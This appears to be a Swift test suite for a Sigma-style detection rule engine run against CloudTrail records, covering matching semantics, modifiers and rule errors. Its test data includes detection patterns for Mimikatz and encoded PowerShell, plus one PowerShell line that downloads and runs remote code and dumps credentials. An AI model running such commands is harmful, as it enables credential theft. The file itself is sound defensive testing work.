import Foundation
import Testing

@testable import PipewatchRules

/// A CloudTrail record with a custom top-level `probe` field holding `value` (JSON).
private func probe(_ value: String) -> String { cloudTrail(#""probe":"# + value) }
private func probeText(_ text: String) -> String { probe(jsonString(text)) }

private func jsonString(_ text: String) -> String {
    let data = try! JSONSerialization.data(withJSONObject: [text], options: [.fragmentsAllowed])
    let array = String(decoding: data, as: UTF8.self)
    return String(array.dropFirst().dropLast())
}

private func selection(_ item: String) -> String { "selection:\n    \(item)\ncondition: selection" }

private func encodeBase64(_ bytes: [UInt8]) -> String { Data(bytes).base64EncodedString() }

@Suite struct PlainValueTests {
    @Test func valuesAreCaseInsensitiveByDefault() {
        #expect(ruleMatches(selection("probe: 'Hello World'"), probeText("hello world")))
        #expect(ruleMatches(selection("probe: 'hello world'"), probeText("HELLO WORLD")))
        #expect(!ruleMatches(selection("probe: 'hello world'"), probeText("hello  world")))
    }

    @Test func wildcards() {
        #expect(ruleMatches(selection("probe: 'prog?.exe'"), probeText("progA.exe")))
        #expect(!ruleMatches(selection("probe: 'prog?.exe'"), probeText("prog.exe")))
        #expect(!ruleMatches(selection("probe: 'prog?.exe'"), probeText("progAB.exe")))
        #expect(ruleMatches(selection("probe: 'antivirus_V*.exe'"), probeText("antivirus_V21.2.1.exe")))
        #expect(ruleMatches(selection("probe: 'antivirus_V*.exe'"), probeText("antivirus_V.exe")))
        #expect(!ruleMatches(selection("probe: 'antivirus_V*.exe'"), probeText("antivirus_V1.exe.bak")))
        // `?` is one character, not one byte.
        #expect(ruleMatches(selection("probe: 'caf?'"), probeText("café")))
        #expect(ruleMatches(selection("probe: '*'"), probeText("")))
    }

    /// The escape rules of the specification's "Escape Character" section.
    @Test func backslashEscapes() {
        // A plain backslash not followed by a wildcard: single or double.
        #expect(ruleMatches(selection(#"probe: 'C:\Windows\System32\whoami.exe'"#), probeText(#"C:\Windows\System32\whoami.exe"#)))
        #expect(ruleMatches(selection(#"probe: 'C:\\Windows'"#), probeText(#"C:\Windows"#)))
        // An escaped wildcard is a plain character.
        #expect(ruleMatches(selection(#"probe: 'a\*b'"#), probeText("a*b")))
        #expect(!ruleMatches(selection(#"probe: 'a\*b'"#), probeText("axxb")))
        #expect(ruleMatches(selection(#"probe: 'a\?'"#), probeText("a?")))
        #expect(!ruleMatches(selection(#"probe: 'a\?'"#), probeText("ab")))
        // `\\*`: a backslash followed by a wildcard.
        #expect(ruleMatches(selection(#"probe: 'dir\\*'"#), probeText(#"dir\file.txt"#)))
        #expect(!ruleMatches(selection(#"probe: 'dir\\*'"#), probeText("dirfile.txt")))
        // `\\\*`: a backslash and a plain star.
        #expect(ruleMatches(selection(#"probe: 'a\\\*'"#), probeText(#"a\*"#)))
        #expect(!ruleMatches(selection(#"probe: 'a\\\*'"#), probeText(#"a\xyz"#)))
        // Three or four backslashes: two plain backslashes.
        #expect(ruleMatches(selection(#"probe: '\\\\server'"#), probeText(#"\\server"#)))
        #expect(!ruleMatches(selection(#"probe: '\\\\server'"#), probeText(#"\server"#)))
    }

    @Test func emptyStringAndNull() {
        // `''` is an empty value; `null` is an absent (or null) field.
        #expect(ruleMatches(selection("probe: ''"), probeText("")))
        #expect(!ruleMatches(selection("probe: ''"), cloudTrail()))
        #expect(ruleMatches(selection("probe: null"), cloudTrail()))
        #expect(ruleMatches(selection("probe: null"), probe("null")))
        #expect(!ruleMatches(selection("probe: null"), probeText("")))
        // The specification's example: `selection and not filter` with a null filter.
        let detection = "selection:\n    eventName: GetObject\nfilter:\n    probe: null\ncondition: selection and not filter"
        #expect(ruleMatches(detection, probeText("set")))
        #expect(!ruleMatches(detection, cloudTrail()))
    }

    @Test func nullCannotBeInAList() {
        let problems = ruleProblems("selection:\n    probe:\n        - ''\n        - null\ncondition: selection")
        #expect(problems.count == 1)
        #expect(problems.first?.reason.contains("null cannot be part of a list") == true)
        #expect(problems.first?.line == 9)
    }

    @Test func numbersAndBooleansCompareAsText() {
        #expect(ruleMatches(selection("probe: 403"), probe("403")))
        #expect(ruleMatches(selection("probe: 403"), probeText("403")))
        #expect(!ruleMatches(selection("probe: 403"), probe("4030")))
        #expect(ruleMatches(selection("probe: true"), probe("true")))
        #expect(ruleMatches(selection("probe: 'true'"), probeText("True")))
    }

    @Test func listsAreOrMapsAreAnd() {
        let or = selection("probe:\n        - alpha\n        - beta")
        #expect(ruleMatches(or, probeText("beta")))
        #expect(!ruleMatches(or, probeText("gamma")))
        let and = "selection:\n    probe: alpha\n    eventName: GetObject\ncondition: selection"
        #expect(ruleMatches(and, probeText("alpha")))
        #expect(!ruleMatches(and, cloudTrail(#""probe":"alpha","eventName":"PutObject""#)))
        // A list of maps: OR of ANDs (the specification's example shape).
        let listOfMaps = "selection:\n    - probe|endswith: '\\example.exe'\n    - userAgent|contains: 'Test executable'\ncondition: selection"
        #expect(ruleMatches(listOfMaps, probeText(#"C:\x\example.exe"#)))
        #expect(ruleMatches(listOfMaps, cloudTrail(#""userAgent":"a Test executable""#)))
        #expect(!ruleMatches(listOfMaps, probeText("example.exe.txt")))
    }
}

@Suite struct GenericModifierTests {
    @Test func containsStartswithEndswith() {
        #expect(ruleMatches(selection("probe|contains: 'MiMi'"), probeText("invoke-mimikatz")))
        #expect(!ruleMatches(selection("probe|contains: 'mimi'"), probeText("invoke-mikatz")))
        #expect(ruleMatches(selection("probe|startswith: 'adm'"), probeText("ADMIN")))
        #expect(!ruleMatches(selection("probe|startswith: 'adm'"), probeText("sysadm")))
        #expect(ruleMatches(selection(#"probe|endswith: '\cmd.exe'"#), probeText(#"C:\Windows\System32\CMD.EXE"#)))
        #expect(!ruleMatches(selection(#"probe|endswith: '\cmd.exe'"#), probeText(#"C:\cmd.exe.bak"#)))
        // Wildcards inside a contains value stay wildcards.
        #expect(ruleMatches(selection("probe|contains: 'a*z'"), probeText("xxabcdzxx")))
    }

    @Test func manyContainsValuesUseOneAutomaton() throws {
        let values = (0..<20).map { "        - 'needle\($0)-'" }.joined(separator: "\n")
        let detection = "selection:\n    probe|contains:\n\(values)\ncondition: selection"
        #expect(ruleMatches(detection, probeText("hay NEEDLE17- stack")))
        #expect(!ruleMatches(detection, probeText("hay needle20- stack")))
        let harness = Harness(rule(detection))
        var automata = 0
        harness.ruleSet.engine.programs[0].expression.forEachDatabase { _ in automata += 1 }
        #expect(automata == 1)
    }

    @Test func allModifier() {
        let detection = selection("probe|contains|all:\n        - 'alpha'\n        - 'beta'")
        #expect(ruleMatches(detection, probeText("beta then alpha")))
        #expect(!ruleMatches(detection, probeText("alpha only")))
        // The specification forbids `all` on a single value.
        let problems = ruleProblems(selection("probe|contains|all: 'alpha'"))
        #expect(problems.first?.reason.contains("'all' needs a list") == true)
    }

    @Test func allAcrossArrayElements() {
        // Each value must be found in some element of the array.
        let detection = selection("probe|all:\n        - a\n        - b")
        #expect(ruleMatches(detection, probe(#"["a","b","c"]"#)))
        #expect(!ruleMatches(detection, probe(#"["a","c"]"#)))
    }

    @Test func exists() {
        #expect(ruleMatches(selection("probe|exists: true"), probeText("x")))
        #expect(ruleMatches(selection("probe|exists: true"), probe("null")))  // presence, not value
        #expect(!ruleMatches(selection("probe|exists: true"), cloudTrail()))
        #expect(ruleMatches(selection("probe|exists: false"), cloudTrail()))
        #expect(!ruleMatches(selection("probe|exists: false"), probeText("")))
        #expect(ruleMatches(selection("userIdentity.arn|exists: true"), cloudTrail()))
        #expect(ruleProblems(selection("probe|exists: maybe")).count == 1)
        #expect(ruleProblems(selection("probe|exists|contains: true")).count == 1)
    }

    @Test func cased() {
        #expect(ruleMatches(selection("probe|cased: 'AdMiN'"), probeText("AdMiN")))
        #expect(!ruleMatches(selection("probe|cased: 'AdMiN'"), probeText("admin")))
        #expect(ruleMatches(selection("probe|contains|cased: 'MiMi'"), probeText("xMiMix")))
        #expect(!ruleMatches(selection("probe|contains|cased: 'MiMi'"), probeText("xmimix")))
    }

    @Test func neq() {
        #expect(ruleMatches(selection("probe|neq: 'root'"), probeText("bob")))
        #expect(!ruleMatches(selection("probe|neq: 'root'"), probeText("ROOT")))
        #expect(!ruleMatches(selection("probe|neq: 'root'"), cloudTrail()))  // absent is not "different"
        let list = selection("probe|neq:\n        - root\n        - admin")
        #expect(!ruleMatches(list, probeText("admin")))
        #expect(ruleMatches(list, probeText("guest")))
    }
}

@Suite struct StringModifierTests {
    @Test func windash() {
        let detection = selection("probe|windash|contains: ' -enc '")
        #expect(ruleMatches(detection, probeText("powershell -enc ZQBj")))
        #expect(ruleMatches(detection, probeText("powershell /enc ZQBj")))
        #expect(ruleMatches(detection, probeText("powershell \u{2013}enc ZQBj")))  // en dash
        #expect(ruleMatches(detection, probeText("powershell \u{2014}enc ZQBj")))  // em dash
        #expect(ruleMatches(detection, probeText("powershell \u{2015}enc ZQBj")))  // horizontal bar
        #expect(!ruleMatches(detection, probeText("powershell +enc ZQBj")))
        // Only a dash that starts a word is replaced.
        let inner = selection("probe|windash: 'a-b'")
        #expect(ruleMatches(inner, probeText("a-b")))
        #expect(!ruleMatches(inner, probeText("a/b")))
    }

    @Test func regularExpressions() {
        #expect(ruleMatches(selection("probe|re: 'ab+c'"), probeText("xxabbbcxx")))
        // Case-sensitive unless `i`.
        #expect(!ruleMatches(selection("probe|re: 'ABC'"), probeText("abc")))
        #expect(ruleMatches(selection("probe|re|i: 'ABC'"), probeText("abc")))
        // `m`: ^ and $ at line boundaries.
        #expect(!ruleMatches(selection("probe|re: '^second$'"), probeText("first\nsecond\nthird")))
        #expect(ruleMatches(selection("probe|re|m: '^second$'"), probeText("first\nsecond\nthird")))
        // `s`: dot matches newline.
        #expect(!ruleMatches(selection("probe|re: 'a.b'"), probeText("a\nb")))
        #expect(ruleMatches(selection("probe|re|s: 'a.b'"), probeText("a\nb")))
        // Sub-modifiers only after `re`.
        #expect(ruleProblems(selection("probe|i: 'abc'")).first?.reason.contains("only after 're'") == true)
        #expect(ruleProblems(selection("probe|re|contains: 'abc'")).first?.reason.contains("cannot be combined") == true)
    }

    @Test func aRefusedRegexInAListIsNamedByItsOwnLine() {
        // Compiled together with the valid ones: the refusal still names the one Hyperscan refused, and its line.
        for modifiers in ["re", "re|all"] {
            let problems = ruleProblems("selection:\n    probe|\(modifiers):\n        - '^ok$'\n        - 'fine.*'\n        - '(b)\\1'\ncondition: selection")
            #expect(problems.count == 1, "\(modifiers): \(problems)")
            #expect(problems.first?.line == 10, "\(modifiers): \(problems)")
            #expect(problems.first?.reason.contains("regular expression '(b)\\1' is refused") == true, "\(modifiers): \(problems)")
        }
    }

    @Test func regexRefusedByHyperscanRefusesTheRule() {
        let backreference = ruleProblems(selection(#"probe|re: '(a)\1'"#))
        #expect(backreference.count == 1)
        #expect(backreference.first?.line == 7)
        #expect(backreference.first?.reason.contains("regular expression '(a)\\1' is refused") == true)
        let lookahead = ruleProblems(selection("probe|re: 'foo(?=bar)'"))
        #expect(lookahead.first?.reason.contains("is refused") == true)
    }

    @Test func base64() {
        #expect(ruleMatches(selection("probe|base64: 'secret'"), probeText("c2VjcmV0")))
        #expect(!ruleMatches(selection("probe|base64: 'secret'"), probeText("secret")))
        #expect(ruleMatches(selection("probe|base64|contains: 'secret'"), probeText("xx c2VjcmV0 yy")))
        // Wildcards cannot be encoded.
        #expect(ruleProblems(selection("probe|contains|base64: 'secret'")).first?.reason.contains("without wildcards") == true)
    }

    @Test func base64offsetFindsTheValueAtEveryAlignment() {
        // pySigma's documented forms of 'http://': aHR0cDovL, h0dHA6Ly, odHRwOi8v.
        #expect(SigmaEncoding.base64Offsets(Array("http://".utf8)).map { String(decoding: $0, as: UTF8.self) }
            == ["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"])
        let detection = selection("probe|base64offset|contains: 'http://'")
        for prefix in ["", "x", "xy", "xyz"] {
            let encoded = encodeBase64(Array((prefix + "http://evil.example/payload").utf8))
            #expect(ruleMatches(detection, probeText(encoded)), "prefix \(prefix.count)")
        }
        #expect(!ruleMatches(detection, probeText(encodeBase64(Array("https://safe.example".utf8)))))
    }

    @Test func utf16Encodings() {
        // The specification's examples: cmd > 63 00 6d 00 64 00 (le), 00 63 00 6d 00 64 (be), FF FE 63 00 … (utf16).
        #expect(SigmaEncoding.utf16(Array("cmd".utf8), littleEndian: true) == [0x63, 0, 0x6D, 0, 0x64, 0])
        #expect(SigmaEncoding.utf16(Array("cmd".utf8), littleEndian: false) == [0, 0x63, 0, 0x6D, 0, 0x64])
        let le: [UInt8] = [0x63, 0, 0x6D, 0, 0x64, 0]
        let be: [UInt8] = [0, 0x63, 0, 0x6D, 0, 0x64]
        #expect(ruleMatches(selection("probe|utf16le|base64: 'cmd'"), probeText(encodeBase64(le))))
        #expect(ruleMatches(selection("probe|wide|base64: 'cmd'"), probeText(encodeBase64(le))))
        #expect(ruleMatches(selection("probe|utf16be|base64: 'cmd'"), probeText(encodeBase64(be))))
        #expect(ruleMatches(selection("probe|utf16|base64: 'cmd'"), probeText(encodeBase64([0xFF, 0xFE] + le))))
        #expect(!ruleMatches(selection("probe|utf16be|base64: 'cmd'"), probeText(encodeBase64(le))))
    }

    @Test func wideBase64offsetFindsAnEncodedPowerShellCommand() {
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://x'); Invoke-Mimikatz -DumpCreds"
        let encoded = encodeBase64(SigmaEncoding.utf16(Array(command.utf8), littleEndian: true))
        let detection = selection("probe|wide|base64offset|contains: 'Invoke-Mimikatz'")
        #expect(ruleMatches(detection, probeText("powershell -enc " + encoded)))
        let harmless = encodeBase64(SigmaEncoding.utf16(Array("Get-ChildItem".utf8), littleEndian: true))
        #expect(!ruleMatches(detection, probeText("powershell -enc " + harmless)))
    }
}

@Suite struct NumericTimeAndNetworkModifierTests {
    @Test func comparisons() {
        #expect(ruleMatches(selection("probe|lt: 10"), probe("9")))
        #expect(!ruleMatches(selection("probe|lt: 10"), probe("10")))
        #expect(ruleMatches(selection("probe|lte: 10"), probe("10")))
        #expect(ruleMatches(selection("probe|gt: 10"), probe("10.5")))
        #expect(!ruleMatches(selection("probe|gt: 10"), probe("10")))
        #expect(ruleMatches(selection("probe|gte: 10"), probeText("10")))  // numeric strings count
        #expect(!ruleMatches(selection("probe|gte: 10"), probeText("ten")))
        #expect(ruleMatches(selection("probe|gt: -1.5e1"), probe("-14")))
        #expect(ruleProblems(selection("probe|lt: ten")).first?.reason.contains("is not a number") == true)
    }

    @Test func timeParts() {
        // eventTime 2026-11-05T02:31:07Z: a Thursday of ISO week 45.
        let record = cloudTrail()
        #expect(ruleMatches(selection("eventTime|minute: 31"), record))
        #expect(ruleMatches(selection("eventTime|hour: 2"), record))
        #expect(!ruleMatches(selection("eventTime|hour: 3"), record))
        #expect(ruleMatches(selection("eventTime|day: 5"), record))
        #expect(ruleMatches(selection("eventTime|week: 45"), record))
        #expect(ruleMatches(selection("eventTime|month: 11"), record))
        #expect(ruleMatches(selection("eventTime|year: 2026"), record))
        // With a comparison: night hours.
        #expect(ruleMatches(selection("eventTime|hour|lt: 6"), record))
        #expect(!ruleMatches(selection("eventTime|hour|gte: 6"), record))
        // The normalized event time.
        #expect(ruleMatches(selection("time|hour: 2"), record))
        #expect(ruleMatches(selection("time|minute|gte: 30"), record))
        // weekday (extension): ISO, Thursday is 4; a weekend test is false on it.
        #expect(ruleMatches(selection("eventTime|weekday: 4"), record))
        #expect(!ruleMatches(selection("time|weekday|gte: 6"), record))
        #expect(ruleMatches(selection("time|weekday|lte: 5"), record))
    }

    @Test func weekdaysOfAWholeWeekAndItsWeekend() {
        // 2026-11-02 is a Monday: its seven days are 1…7, the Saturday and Sunday 6 and 7 at any hour.
        for day in 2...8 {
            let record = cloudTrail().replacingOccurrences(of: "2026-11-05T02:31:07Z", with: "2026-11-0\(day)T23:59:59Z")
            #expect(ruleMatches(selection("eventTime|weekday: \(day - 1)"), record), "2026-11-0\(day)")
            #expect(ruleMatches(selection("eventTime|weekday:\n            - 6\n            - 7"), record) == (day >= 7))
        }
    }

    @Test func isoWeekNumbers() {
        // 2021-01-03 (Sunday) is in week 53 of 2020; 2024-12-30 (Monday) in week 1 of 2025; 2026-01-01 (Thursday) week 1.
        #expect(TimePartTest.isoWeek(year: 2021, month: 1, day: 3, weekday: 7) == 53)
        #expect(TimePartTest.isoWeek(year: 2024, month: 12, day: 30, weekday: 1) == 1)
        #expect(TimePartTest.isoWeek(year: 2026, month: 1, day: 1, weekday: 4) == 1)
        #expect(TimePartTest.isoWeek(year: 2026, month: 11, day: 5, weekday: 4) == 45)
    }

    @Test func cidr() {
        #expect(ruleMatches(selection("sourceIPAddress|cidr: 203.0.113.0/24"), cloudTrail()))
        #expect(!ruleMatches(selection("sourceIPAddress|cidr: 198.51.100.0/24"), cloudTrail()))
        #expect(ruleMatches(selection("sourceIPAddress|cidr:\n        - 10.0.0.0/8\n        - 203.0.0.0/8"), cloudTrail()))
        #expect(ruleMatches(selection("probe|cidr: '2001:db8::/32'"), probeText("2001:db8:1:2::42")))
        #expect(!ruleMatches(selection("probe|cidr: '2001:db8::/32'"), probeText("2001:db9::1")))
        #expect(ruleMatches(selection("probe|cidr: '::/0'"), probeText("fe80::1%eth0")))
        // An IPv4-mapped IPv6 address is the IPv4 address.
        #expect(ruleMatches(selection("probe|cidr: 10.1.0.0/16"), probeText("::ffff:10.1.2.3")))
        #expect(!ruleMatches(selection("probe|cidr: 10.1.0.0/16"), probeText("not an address")))
        #expect(ruleProblems(selection("probe|cidr: 10.1.0.0/33")).first?.reason.contains("CIDR") == true)
    }

    @Test func ipParsing() {
        #expect(IPAddress("1.2.3.4") == IPAddress(v4: 0x0102_0304))
        #expect(IPAddress("1.2.3") == nil)
        #expect(IPAddress("1.2.3.256") == nil)
        #expect(IPAddress("::1") == IPAddress(high: 0, low: 1))
        #expect(IPAddress("2001:db8::") == IPAddress(high: 0x2001_0db8_0000_0000, low: 0))
        #expect(IPAddress("1::2::3") == nil)
        #expect(IPAddress("1:2:3:4:5:6:7:8:9") == nil)
    }
}

@Suite struct SpecificModifierTests {
    @Test func expandUsesPlaceholderValues() {
        let options = RuleLoadOptions(placeholders: Placeholders(["Administrators": ["adm_*", "root"]]))
        let detection = selection("probe|expand: '%Administrators%'")
        #expect(ruleMatches(detection, probeText("adm_alice"), options: options))
        #expect(ruleMatches(detection, probeText("root"), options: options))
        #expect(!ruleMatches(detection, probeText("alice"), options: options))
        // Escaped percent signs stay plain; an unexpanded `%x%` is a literal.
        let mixed = selection(#"probe|expand: '\%plain%Administrators%'"#)
        #expect(ruleMatches(mixed, probeText("%plainroot"), options: options))
        #expect(ruleMatches(selection("probe: '%Administrators%'"), probeText("%administrators%"), options: options))
    }

    @Test func unresolvedPlaceholderRefusesTheRule() {
        let problems = ruleProblems(selection("probe|expand: '%Servers%'"))
        #expect(problems.count == 1)
        #expect(problems.first?.reason.contains("placeholder '%Servers%' has no value") == true)
    }

    @Test func placeholdersFile() throws {
        let placeholders = try Placeholders.parse(yaml: "placeholders:\n    Admins: [root, 'adm_*']\n    One: single\n", file: "p.yml")
        #expect(placeholders.values["Admins"] == ["root", "adm_*"])
        #expect(placeholders.values["One"] == ["single"])
        #expect(throws: RuleProblem.self) { try Placeholders.parse(yaml: "placeholders:\n    Bad: {a: b}\n", file: "p.yml") }
    }

    @Test func fieldReference() {
        let detection = selection("probe|fieldref: userIdentity.userName")
        #expect(ruleMatches(detection, probeText("BOB")))
        #expect(!ruleMatches(detection, probeText("alice")))
        let neq = selection("probe|fieldref|neq: userIdentity.userName")
        #expect(ruleMatches(neq, probeText("alice")))
        #expect(!ruleMatches(neq, probeText("bob")))
        let contains = selection("userIdentity.arn|fieldref|contains: probe")
        #expect(ruleMatches(contains, probeText("bob")))
        #expect(!ruleMatches(contains, probeText("carol")))
        let cased = selection("probe|fieldref|cased: userIdentity.userName")
        #expect(!ruleMatches(cased, probeText("BOB")))
        // Against a normalized field.
        #expect(ruleMatches(selection("probe|fieldref: cloud.account"), probeText("111122223333")))
    }

    @Test func unknownModifierIsNamed() {
        let problems = ruleProblems(selection("probe|contain: x"))
        #expect(problems.count == 1)
        #expect(problems.first?.reason == "unknown value modifier 'contain' (in 'probe|contain')")
        #expect(problems.first?.line == 7)
    }

    @Test func modifiersApplyLeftToRight() {
        // base64 then contains: the encoded value anywhere.
        #expect(ruleMatches(selection("probe|base64|contains: 'abc'"), probeText("--YWJj--")))
        // contains then base64: wildcards cannot be encoded.
        #expect(!ruleProblems(selection("probe|contains|base64: 'abc'")).isEmpty)
        // startswith then windash: each variant keeps the trailing wildcard.
        #expect(ruleMatches(selection("probe|startswith|windash: '-x'"), probeText("/xyz")))
    }
}
